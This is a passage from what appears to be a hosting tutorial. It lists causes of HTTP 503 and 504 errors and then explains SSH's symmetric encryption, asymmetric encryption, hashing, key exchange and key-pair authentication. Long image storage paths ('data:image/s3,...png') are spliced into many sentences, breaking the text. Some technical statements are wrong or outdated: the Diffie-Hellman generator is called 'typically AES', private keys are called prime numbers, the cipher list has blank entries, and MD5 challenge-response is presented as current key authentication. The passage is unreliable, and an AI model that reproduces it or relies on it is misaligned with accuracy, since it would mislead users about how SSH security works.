  • The network connection between the backend servers and reverse proxyserver is healthy. If the servers can communicate on other ports, make sure that the firewall is allowing the traffic between them
  • If your web application is configured to listen on a socket, ensure that the socket exists in the correct location and that it has the proper permissions

503 Service Unavailable

The 503 status code, or Service Unavailable error, means that the server is overloaded or under maintenance. This error implies that the service should become available at some point.
If the server is not under maintenance, this can indicate that the server does not have enough CPU or memory resources to handle all of the incoming requests, or that the web server needs to be configured to allow more users, threads, or processes.

504 Gateway Timeout

The 504 status code, or Gateway Timeout error, means that the server is a gateway or proxy server, and it is not receiving a response from the backend servers within the allowed time period.
This typically occurs in the following situations:
  • The network connection between the servers is poor
  • The backend server that is fulfilling the request is too slow, due to poor performance
  • The gateway or proxy server's timeout duration is too short

SSH Encryption and Connection Process


SSH, or secure shell, is a secureprotocol and the most common way of safely administering remote servers. Using a number of encryption technologies, SSH provides a mechanism for establishing a cryptographically secured connection between two parties, authenticating each side to the other, and passing commands and output back and forth.

In this guide, we will be examining the underlying encryption techniques that SSH employs and the methods it uses to establish secure connections. This information can be useful for understanding the various layers of encryption and the different steps needed to form a connection and authenticate both parties.

SymmetricEncryption, Asymmetric Encryption, and Hashes

In order tosecure the transmission of information, SSH employs a number of different types of data manipulation techniques at various points in the transaction. These include forms of symmetrical encryption, asymmetrical encryption, and hashing.

Symmetrical Encryption

The relationship of the components that encrypt and decrypt data determine whether an encryption scheme is symmetrical or asymmetrical.
Symmetrical encryption is a type of encryption where one key can be used to encrypt messages to the opposite party, and also to decrypt the messages received from the other participant. This means that anyone who holds the key can encrypt and decrypt messages to anyone elseholding the key.
This type of encryption scheme is often called "shared secret" encryption, or "secret key" encryption. There is typically only a single key that is used for all operations, or a pair of keys where the relationship is easy to discover and it is trivial to derive the opposite key.
Symmetric keys are used by SSH in order to encrypt the entire connection. Contrary to what some users assume, public/private asymmetrical key pairs that can be created are only used for authentication, not the encrypting the connection. The symmetrical encryption allows even password authentication to be protected against snooping.
The client and server both contribute toward establishing this key, and the resulting secret is never known to outside parties. The secret key is created through a process known as a key exchange algorithm. This exchange results in the server and client botharriving at the same key independently by sharing certain pieces of public data and manipulating them with certain secret data. This process is explained in greater detail later on.
The symmetrical encryption key created by thisprocedure is session-based and constitutes the actual encryption for the data sent between server and client. Once this is established, the rest of the data must be encrypted with this shared secret. This is done prior to authenticating a client.
SSH can be configured to utilize a variety of different symmetrical cipher systems, including AES, Blowfish, 3DES, CAST128, and Arcfour. The server and client can both decide on a list of their supported ciphers, ordered by preference. The first option from the client's list that is available on the server is used as the cipher algorithm in both directions.
On Ubuntu 14.04, both the client and the server are defaulted like this: aes128-ctr, aes192-ctr, aes256-ctr, arcfour256, arcfour128,,,, aes128-cbc, blowfish-cbc, cast128-cbc, aes192-cbc, aes256-cbc, arcfour.
This means that if two Ubuntu 14.04 machines areconnecting to each other (without overriding the default ciphers through configuration options), they will always use the aes128-ctr cipher to encrypt their connection.

Asymmetrical Encryption

Asymmetrical encryption is different from symmetrical encryption in that to send data in a single direction, two associated keys are needed. One of these keys is known as the private key, while the other is called the public key.
The public key can be freely shared with any party. It is associated with its paired key, but the private key cannot be derived from the public key. The mathematical relationship between the public key and the private key allows the public key to encrypt messages that can only be decrypted by the private key. This is a one-way ability, meaning that the public key has no ability to decrypt the messages it writes, nor can it decrypt anything the private key may send it.
The private key should be kept entirely secret and should never be shared with another party. This is a key requirement for the public key paradigm to work. The private key is the only component capable of decrypting messages that were encrypted using the associated public key. By virtue of this fact, any entity capable decrypting these messages has demonstrated that they are in control of the private key.SSH utilizes asymmetric encryption in a few different places. During the initial key exchange process used to set up the symmetrical encryption (used to encrypt the session), asymmetrical encryption is used. In this stage,both parties produce temporary key pairs and exchange the public key in order to produce the shared secret that will be used for symmetrical encryption.
The more well-discussed use of asymmetrical encryption with SSH comes from SSH key-based authentication. SSH key pairs can be used to authenticate a client to a server. The client creates a key pair and then uploads the public key to any remote server it wishes to access. This is placed in a file called authorized_keys within the ~/.ssh directory in the user account's home directory on the remote server.
After the symmetrical encryption is established to secure communications between the server and client, the client must authenticate to be allowed access. The server can use the public key in this file to encrypt a challenge message to the client. If the client can prove that it was able to decrypt this message, it has demonstrated that it owns the associated private key. The server then can set up the environment for the client.


Another form of data manipulation that SSH takes advantage of is cryptographic hashing. Cryptographic hash functions are methods of creating a succinct "signature" or summary of a set of information. Their main distinguishing attributes are that they are never meant to be reversed, they are virtually impossible to influence predictably, and they are practically unique.
Using the same hashing function and message should produce the same hash; modifying any portion of the data should produce an entirely different hash. A user should not be able to produce the original message from a given hash, but they should be able to tell if a given message produced a given hash.
Given these properties, hashes are mainly used for data integrity purposes and to verify the authenticity of communication. The main use in SSH is with HMAC,or hash-based message authentication codes. These are used to ensure that the received message text is intact and unmodified.
As part of the symmetrical encryption negotiation outlined above, a message authentication code (MAC) algorithm is selected. The algorithm is chosen by working through the client's list of acceptable MAC choices. The first one out of this list that the server supports will be used.
Each message that is sent after the encryption is negotiated must contain a MAC so that the other party can verify the packet integrity. The MAC is calculated from the symmetrical shared secret, the packet sequence number of the message, and the actual message content.
The MAC itself is sent outside of the symmetrically encrypted area as the final part of the packet. Researchers generally recommend this method of encrypting the data first, and then calculating the MAC.How Does SSH Work?

You probably already have a basic understanding of how SSH works. The SSH protocol employs a client-server model to authenticate two parties and encrypt the data between them.
The server component listens on a designated port for connections. It is responsible for negotiating the secure connection, authenticating the connecting party, and spawning the correct environment if the credentials are accepted.
The client is responsible for beginning the initial TCP handshake with the server, negotiating the secure connection, verifying that the server's identity matches previously recorded information, and providing credentials to authenticate.
An SSH session is established in two separate stages. The first is to agree upon and establish encryption to protect future communication. The second stage is to authenticate the user and discover whether access to the server should be granted.Negotiating Encryption for the Session

When a TCP connection is made by a client, the server responds with the protocol versions it supports. If the client can match one of the acceptable protocol versions, the connection continues. The server also provides its public host key, which the client can use to check whether this was the intended host.
At this point, both parties negotiate a session key using a version of something called the Diffie-Hellman algorithm. This algorithm (and its variants) make it possible for each party to combine their own privatedata with public data from the other system to arrive at an identical secret session key.
The session key will be used to encrypt the entire session. The public and private key pairs used for this part of the procedure are completely separate from the SSH keys used to authenticate a client to the server.
The basis of this procedure for classic Diffie-Hellman is:
  1. Both parties agree on a large prime number, which will serve as a seed value.
  2. Both parties agree on an encryption generator (typically AES), which will be used to manipulate the values in a predefined way.
  3. Independently, each party comes up with another prime number which is kept secret from the other party. This number is used as the private key for this interaction (different than the private SSH key used for authentication).
  4. The generated private key, the encryption generator, and the shared primenumber are used to generate a public key that is derived from the private key, but which can be shared with the other party.
  5. Both participants then exchange their generated public keys.
  6. The receiving entity uses their own private key, the other party's public key, and the original shared prime number to compute a shared secret key. Although this is independently computed by each party, using opposite private and public keys, it will result in the same shared secret key.
  7. The shared secret is then used to encrypt all communication that follows.
The shared secret encryption that is used for the rest of the connection is called binary packet protocol. The above process allows each party to equally participate in generating the shared secret, which does not allow one end to control the secret. It also accomplishes the task of generating an identical shared secret without ever having to send that information over insecure channels.
The generated secret is a symmetric key, meaning that thesame key used to encrypt a message can be used to decrypt it on the other side. The purpose of this is to wrap all further communication in an encrypted tunnel that cannot be deciphered by outsiders.
After the session encryption is established, the user authentication stage begins.

Authenticating the User's Access to the Server

The next stage involves authenticating the user and deciding access. There are a few different methods that can be used for authentication, based on what the server accepts.
The simplest is probably password authentication, in which the server simply prompts the client for the password of the account they are attempting to login with. The password is sent through the negotiated encryption, so it is secure from outside parties.
Even though the password will be encrypted, this method is not generally recommended due to the limitations on the complexity of the password. Automated scripts can break passwords of normal lengths very easily compared to other authentication methods.
The most popular and recommended alternative is the use of SSH key pairs. SSH key pairs are asymmetric keys, meaning that the two associated keys serve different functions.
The public key is used to encrypt data that can only be decrypted with the private key. The public key can be freely shared, because, although it can encrypt for the private key, there is no method of deriving the privatekey from the public key.
Authentication using SSH key pairs begins after the symmetric encryption has been established as described in the last section. The procedure happens like this:
  1. The client begins by sending an ID for the key pair it would like to authenticate with to the server.
  2. The server check's the authorized_keys file of the account that the client is attempting to log into for the key ID.
  3. If a public key with matching ID is found in the file, the server generates a random number and uses the public key to encrypt the number.
  4. The server sends the client this encrypted message.
  5. If the client actually has the associated private key, it will be able to decrypt the message using that key, revealing the original number.
  6. The client combines the decrypted number with the shared sessionkey that is being used to encrypt the communication, and calculates the MD5 hash of this value.
  7. The client then sends this MD5 hash back to the server as an answer to the encrypted number message.
  8. The server uses the same shared session key and the original number that it sent to the client to calculate the MD5 value on its own. It compares its own calculation to the one that the client sent back. If these two values match, it proves that the client was in possession of the private key and the client is authenticated.
